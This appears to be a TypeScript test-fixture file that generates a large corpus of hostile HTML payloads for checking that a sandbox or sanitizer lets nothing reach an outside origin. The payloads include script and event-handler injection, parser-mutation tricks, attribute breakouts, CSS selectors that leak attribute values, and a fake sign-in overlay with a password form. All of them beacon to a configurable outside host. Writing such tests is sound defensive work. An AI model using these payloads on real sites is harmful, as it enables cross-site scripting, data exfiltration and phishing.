export interface HostileHtml {
  name: string;
  html: string;
  /** The last part of the address it asks outside for. */
  path: string;
  /**
   * The effect when it is opened by itself, without any page of ours around it; undefined where nothing is promised, because it
   * needs a click, another browser, or the very walls it tries to climb.
   */
  live: Live;
}

type Live = 'runs or asks' | 'connects' | undefined;

/** The mark that a script of the corpus leaves when it can run. */
export const SCRIPT_RAN = 'owned';

/** The script that every case tries; each part is separate, so that a wall before one part hides no gap before the next. */
const code = (at: string): string =>
  `try{console.log('${SCRIPT_RAN}')}catch(e){};try{top.document.title='${SCRIPT_RAN}'}catch(e){};try{new Image().src='${at}'}catch(e){};try{fetch('${at}')}catch(e){};try{top.location='${at}'}catch(e){}`;

/**
 * Everything known that makes HTML run, call out, leave its frame or pretend to be the page around it. `outside` is the
 * origin that must hear nothing; each payload asks it for a path of its own.
 */
export function hostileHtml(outside: string): HostileHtml[] {
  return GROUPS.flatMap(([group, live, table]) =>
    Object.entries(table).map(([title, html]) => {
      const name = `${group}: ${title}`;
      const path = name.replaceAll(/\W+/g, '-');
      return { name, path, live, html: `<p>Hello.</p>${html(`${outside}/${path}`)}` };
    }),
  );
}

type Table = Record<string, (at: string) => string>;

const GROUPS: [group: string, live: Live, table: Table][] = [
  [
    'script',
    'runs or asks',
    {
      inline: (at) => `<script>${code(at)}</script>`,
      external: (at) => `<script src="${at}"></script>`,
      module: (at) => `<script type="module">import "${at}"</script>`,
      'import map': (at) =>
        `<script type="importmap">{"imports":{"x":"${at}"}}</script><script type="module">import "x"</script>`,
      'letter case and slashes': (at) => `<ScRiPt/x/src='${at}'></sCrIpT/x>`,
      'in a nested tag': (at) => `<scr<script>ipt>${code(at)}</scr</script>ipt><script>${code(at)}</script>`,
      'behind a comment that ends early': (at) => `<!--><script>${code(at)}</script>-->`,
      'behind a comment with a bang': (at) => `<!-- --!><script>${code(at)}</script>`,
      'behind a conditional comment': (at) => `<!--[if true]><!--><script>${code(at)}</script><!--<![endif]-->`,
      'in an attribute that is closed': (at) => `<p title="</style></title>"><script>${code(at)}</script>">`,
      'behind an unclosed attribute': (at) => `<p title='x' "><script>${code(at)}</script>`,
      'behind CDATA': (at) => `<![CDATA[><script>${code(at)}</script>]]>`,
      'behind a processing instruction': (at) => `<?xml version="1.0"?><script>${code(at)}</script>`,
      'after a form feed': (at) => `<script\f>${code(at)}</script\f>`,
      'never closed': (at) => `<script src="${at}">`,
    },
  ],
  [
    'script',
    undefined,
    {
      'speculation rules': (at) =>
        `<script type="speculationrules">{"prefetch":[{"urls":["${at}"],"eagerness":"immediate"}],"prerender":[{"urls":["${at}"],"eagerness":"immediate"}]}</script>`,
      'behind entities': (at) => `&lt;script&gt;${code(at)}&lt;/script&gt;`,
    },
  ],
  [
    'handler',
    'runs or asks',
    {
      onerror: (at) => `<img src=x onerror="${code(at)}">`,
      'onerror without quotes': () => `<img src=x onerror=console.log('${SCRIPT_RAN}')>`,
      'onload of the body': (at) => `<body onload="${code(at)}">`,
      'onload of an svg': (at) => `<svg onload="${code(at)}">`,
      'ontoggle of open details': (at) => `<details open ontoggle="${code(at)}"><summary>x</summary></details>`,
      'onfocus with autofocus': (at) => `<input autofocus onfocus="${code(at)}">`,
      onanimationstart: (at) =>
        `<style>@keyframes k{from{opacity:0}}</style><p style="animation:k 1s" onanimationstart="${code(at)}">x</p>`,
      'onerror of a media source': (at) => `<video><source src=x onerror="${code(at)}"></video>`,
      'on a custom element with a tab index': (at) => `<x-y tabindex=1 autofocus onfocus="${code(at)}">x</x-y>`,
    },
  ],
  [
    'navigation',
    'runs or asks',
    {
      'meta refresh': (at) => `<meta http-equiv="refresh" content="0;url=${at}">`,
      'meta refresh in letters': (at) => `<meta http-equiv="&#114;efresh" content="0,URL='${at}'">`,
      'meta refresh in noscript': (at) =>
        `<noscript><meta http-equiv=refresh content="0;url=${at}"></noscript><meta http-equiv=refresh content="0;url=${at}">`,
      'form that a script submits': (at) =>
        `<form action="${at}" id=f><input name=x value=y></form><script>f.submit()</script>`,
      'javascript in a frame': (at) => `<iframe src="javascript:fetch('${at}')"></iframe>`,
    },
  ],
  [
    'navigation',
    undefined,
    {
      link: (at) => `<a href="${at}">Click</a>`,
      'link to the top': (at) => `<a href="${at}" target="_top">Click</a>`,
      'link to the parent': (at) => `<a href="${at}" target="_parent">Click</a>`,
      'link to a new window': (at) => `<a href="${at}" target="_blank" rel="opener">Click</a>`,
      'link that pings': (at) => `<a href="#here" ping="${at}">Click</a>`,
      'link without quotes, over two lines': (at) => `<a href\n =\t${at}>Click</a>`,
      'link with javascript': (at) => `<a href="java&#10;script:${code(at)}">Click</a>`,
      'link with an empty address': () => '<a href>Click</a><a href="">Click</a>',
      'link with a base': (at) => `<base href="${at}/" target="_top"><a href="x">Click</a>`,
      'map with areas': (at) =>
        `<img usemap="#m" width=300 height=300 src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m><area shape=default href="${at}" ping="${at}"></map>`,
      'form to click': (at) => `<form action="${at}" target="_top" method=post><button autofocus>Click</button></form>`,
      'form far away': (at) => `<form id=f action="${at}"></form><button form=f formaction="${at}">Click</button>`,
      'form with a picture for a button': (at) =>
        `<form action="${at}"><input type=image src="${at}" alt=Click></form>`,
      'login that asks for a password': (at) =>
        `<form action="${at}"><input name=user><input type=password><input type=submit value=Click></form>`,
    },
  ],
  [
    'resource',
    'runs or asks',
    {
      image: (at) => `<img src="${at}">`,
      'image in a set': (at) => `<img srcset="${at} 1x, ${at}2 2x">`,
      'image in a picture': (at) => `<picture><source srcset="${at}"><img></picture>`,
      'image without a scheme': (at) => `<img src="${at.replace(/^https?:/, '')}">`,
      'image with a policy and credentials': (at) =>
        `<img src="${at}" referrerpolicy="unsafe-url" crossorigin="use-credentials" fetchpriority=high>`,
      'image with attribution': (at) => `<img src="${at}" attributionsrc="${at}">`,
      'background of the body': (at) => `<body background="${at}">`,
      'background of a table': (at) => `<table background="${at}"><tr><td background="${at}">x</table>`,
      'input as image': (at) => `<input type=image src="${at}">`,
      poster: (at) => `<video poster="${at}"></video>`,
      video: (at) => `<video src="${at}" autoplay muted preload=auto></video>`,
      audio: (at) => `<audio src="${at}" autoplay preload=auto></audio>`,
      'video track': (at) => `<video src="${at}" preload=auto><track default src="${at}"></video>`,
      iframe: (at) => `<iframe src="${at}"></iframe>`,
      'iframe never closed': (at) => `<iframe src="${at}">`,
      'iframe with a document of its own': (at) => `<iframe srcdoc="&lt;img src='${at}'&gt;"></iframe>`,
      'iframe in a document of its own': (at) =>
        `<iframe srcdoc="&lt;iframe srcdoc=&quot;&amp;lt;img src=${at}&amp;gt;&quot;&gt;"></iframe>`,
      'iframe with data': (at) => `<iframe src="data:text/html,<img src=${at}>"></iframe>`,
      object: (at) => `<object data="${at}"></object>`,
      embed: (at) => `<embed src="${at}">`,
      'base and a picture': (at) => `<base href="${at}/"><img src="x">`,
    },
  ],
  [
    'resource',
    undefined,
    {
      frameset: (at) => `<frameset><frame src="${at}"></frameset>`,
      'base, twice': (at) => `<base target="_blank"><base href="${at}/"><img src="x">`,
      applet: (at) => `<applet code="${at}" archive="${at}"></applet>`,
      'fenced frame': (at) => `<fencedframe src="${at}"></fencedframe><portal src="${at}"></portal>`,
      manifest: (at) => `<html manifest="${at}"><link rel=manifest href="${at}">`,
      'old image attributes': (at) => `<img lowsrc="${at}" dynsrc="${at}" longdesc="${at}"><bgsound src="${at}">`,
      'xml stylesheet': (at) => `<?xml-stylesheet type="text/css" href="${at}"?>`,
      'frame in a frame, for its links': (at) =>
        `<iframe srcdoc="&lt;link rel=preconnect href='${at}'&gt;&lt;link rel=dns-prefetch href='${at}'&gt;"></iframe>`,
    },
  ],
  [
    'link',
    'runs or asks',
    {
      stylesheet: (at) => `<link rel="stylesheet" href="${at}">`,
      prefetch: (at) => `<link rel="prefetch" href="${at}">`,
      preload: (at) => `<link rel="preload" as="image" href="${at}">`,
      'preload of a set': (at) => `<link rel="preload" as="image" imagesrcset="${at}">`,
      modulepreload: (at) => `<link rel="modulepreload" href="${at}">`,
      'stylesheet in a shadow': (at) =>
        `<div><template shadowrootmode="open"><link rel="stylesheet" href="${at}"></template></div>`,
    },
  ],
  [
    'link',
    'connects',
    {
      preconnect: (at) => `<link rel="preconnect" href="${at}">`,
      'preconnect, odd letters': (at) => `<LiNk\trel=&#112;reconnect\nhref='${at}'>`,
      'preconnect behind a style': (at) => `<style>/*</style><link rel=preconnect href="${at}"><style>*/</style>`,
      'preconnect in a quoted attribute': (at) => `<p title=">"><link rel=preconnect href="${at}">`,
    },
  ],
  [
    'link',
    undefined,
    {
      icon: (at) => `<link rel="icon" href="${at}"><link rel="apple-touch-icon" href="${at}">`,
      prerender: (at) => `<link rel="prerender" href="${at}"><link rel="next" href="${at}">`,
      'dns-prefetch': (at) =>
        `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="${at}">`,
      'dictionary and search': (at) =>
        `<link rel="compression-dictionary" href="${at}"><link rel="search" href="${at}"><link rel="pingback" href="${at}">`,
      'import of html': (at) => `<link rel="import" href="${at}">`,
      'with a script for a policy': () =>
        `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; default-src *"><script>${code('')}</script>`,
    },
  ],
  [
    'style',
    'runs or asks',
    {
      import: (at) => `<style>@import url("${at}");</style>`,
      'import without url': (at) => `<style>@import '${at}' layer(x) screen;</style>`,
      'import in letters': (at) => `<style>@\\69mport "${at}";</style>`,
      'font face': (at) => `<style>@font-face{font-family:f;src:url(${at})}p{font-family:f}</style><p>text</p>`,
      'font face that spells a text': (at) =>
        `<style>@font-face{font-family:f;src:url(${at});unicode-range:U+73}p{font-family:f}</style><p>s</p>`,
      'background of an attribute that is guessed': (at) =>
        `<style>p[title^="s"]{background:url(${at})}</style><p title="secret">x</p>`,
      'guess about what is inside': (at) =>
        `<style>div:has(a[title*="t"]){list-style-image:url(${at});display:list-item}</style><div><a title=st>x</a></div>`,
      'inline background': (at) => `<p style="background-image:url('${at}')">x</p>`,
      'image-set': (at) => `<p style='background:image-set("${at}" 1x)'>x</p>`,
      'url in letters': (at) => `<p style="background:\\75rl(${at})">x</p>`,
      content: (at) => `<style>p::before{content:url(${at})}</style><p>x</p>`,
      mask: (at) => `<p style="mask:url(${at})">x</p>`,
      'border image': (at) => `<p style="border:9px solid;border-image:url(${at}) 9">x</p>`,
      variable: (at) => `<style>:root{--x:url(${at})}p{background:var(--x)}</style><p>x</p>`,
      'behind an unclosed comment': (at) => `<style>/*</style><style>p{background:url(${at})}</style><p>x</p>`,
      'cross-fade': (at) => `<p style="background:-webkit-cross-fade(url(${at}),url(${at}),50%)">x</p>`,
    },
  ],
  [
    'style',
    undefined,
    {
      'filter from a document': (at) => `<p style="filter:url(${at}#f)">x</p>`,
      expression: (at) => `<p style="width:expression(${code(at)});behavior:url(${at});-moz-binding:url(${at})">x</p>`,
      'cover of the whole page': () =>
        '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">This link has expired. Sign in again.</div>',
    },
  ],
  [
    'svg',
    'runs or asks',
    {
      image: (at) => `<svg><image href="${at}" width=9 height=9 /></svg>`,
      'image of old': (at) => `<svg><image xlink:href="${at}" width=9 height=9 /></svg>`,
      'foreign object': (at) => `<svg><foreignObject><img src="${at}"></foreignObject></svg>`,
      script: (at) => `<svg><script>${code(at)}</script></svg>`,
      'script by href': (at) => `<svg><script href="${at}"/></svg>`,
      filter: (at) =>
        `<svg><filter id=f><feImage href="${at}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
      style: (at) => `<svg><style>@import "${at}";</style></svg>`,
      'change of an address': (at) =>
        `<svg><image width=9 height=9><set attributeName="href" to="${at}" /></image></svg>`,
    },
  ],
  [
    'svg',
    undefined,
    {
      use: (at) => `<svg><use href="${at}#x"/></svg>`,
    },
  ],
  [
    'mutation',
    'runs or asks',
    {
      'math and style': (at) =>
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1&gt;" src="${at}">`,
      'svg and title': (at) => `<svg></p><style><a id="</style><img src=${at}>">`,
      'noscript attribute': (at) =>
        `<noscript><p title="</noscript><img src=${at} onerror=console.log('${SCRIPT_RAN}')>">`,
      'table that throws out': (at) => `<table><tr><img src="${at}"><script>${code(at)}</script></table>`,
      'select that is left': (at) =>
        `<select><option><style></option></select><img src="${at}"></style><img src="${at}">`,
    },
  ],
  [
    'mutation',
    undefined,
    {
      template: (at) => `<template><script>${code(at)}</script><img src="${at}"></template>`,
      plaintext: (at) => `<plaintext><img src="${at}">`,
      'xmp and listing': (at) => `<xmp><img src="${at}"></xmp><listing><img src="${at}"></listing>`,
    },
  ],
  [
    'way out of the attribute',
    'runs or asks',
    {
      'double quote': (at) => `"><script>${code(at)}</script>`,
      'single quote': (at) => `'><img src="${at}">`,
      'end of the frame': (at) => `</iframe><script>${code(at)}</script>`,
      'end of everything': (at) => `--></iframe></div></main></body></html><script>${code(at)}</script>`,
      'quote and end of the frame': (at) => `"></iframe><img src="${at}" onerror="${code(at)}">`,
      'quote and another frame': (at) =>
        `" sandbox="allow-scripts allow-same-origin" srcdoc="<script>${code(at)}</script>`,
    },
  ],
  [
    'way out of the attribute',
    undefined,
    {
      'entities of a quote': (at) => `&quot;&gt;&lt;script&gt;${code(at)}&lt;/script&gt;`,
      'entities twice': (at) => `&amp;quot;&amp;gt;&amp;lt;script src=${at}&amp;gt;`,
      'end of a text area': (at) =>
        `<textarea></textarea ><img src=x title="</textarea>">`.concat(`<a href="${at}">Click</a>`),
      'never-ending comment': (at) => `<!-- <img src="${at}">`,
      'never-ending tag': (at) => `<a href="${at}" title="`,
      'never-ending style': (at) => `<style>p{background:url(${at}`,
      'replacement characters': (at) => `<scr\uFFFDipt src="${at}"></script><im\u200Bg src="${at}">`,
      'dollars for the writer': () => "$& $' $` $1 ${alert(1)} {{constructor.constructor('alert(1)')()}}",
    },
  ],
];
